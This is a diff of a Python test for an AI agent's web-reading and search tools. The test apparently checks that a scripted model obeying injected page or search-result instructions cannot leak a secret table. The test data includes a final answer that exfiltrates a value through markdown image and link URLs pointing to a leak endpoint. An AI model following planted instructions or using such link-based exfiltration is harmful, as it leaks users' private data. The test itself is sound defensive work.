@@ -22,8 +22,8 @@ from agent.sharing.export.html_page import export_html
 from agent.sharing.export.markdown import export_markdown
 from agent.text.injection import POINTED_OUT, suspicious
 from agent.toolkit.base import Tool, Toolbox, tool
-from agent.tools.catalogue import CATALOGUE
-from agent.tools.lookups.read_url import read_url_tool
+from agent.tools.lookups import read_url
+from agent.tools.search import SPEC as search_spec
 from agent.tools.search.search_tool import search_tool
 from agent.views.fold import fold
 from agent.web.fetching.fetcher import Fetcher
@@ -126,7 +126,8 @@ def test_a_model_that_obeys_gets_nothing_out(sandbox: Sandbox, way: str) -> None
             server.pages["/"] = ("text/plain; charset=utf-8", text.encode())
             found = ("search", name) if way == "search" else ("read_url", server.url("/"))
             model = Scripted([*obeying(found, canary.port), final(f"Done. ![x]({LEAK}?d=71234) [y]({LEAK}?d=71234)")])
-            tools = Toolbox([searching, secret_table(), read_url_tool(fetcher, sandbox, builtin=CATALOGUE)])
+            reading = read_url.SPEC.with_effect(read_url.read_url_tool(fetcher, sandbox))
+            tools = Toolbox([search_spec.with_effect(searching), secret_table(), reading])
             asked = Question(f"Who earns most? See {server.url('/')}", merging=False)
             events = denying(asked, Agent(model, tools, "react"))
             model.finish()
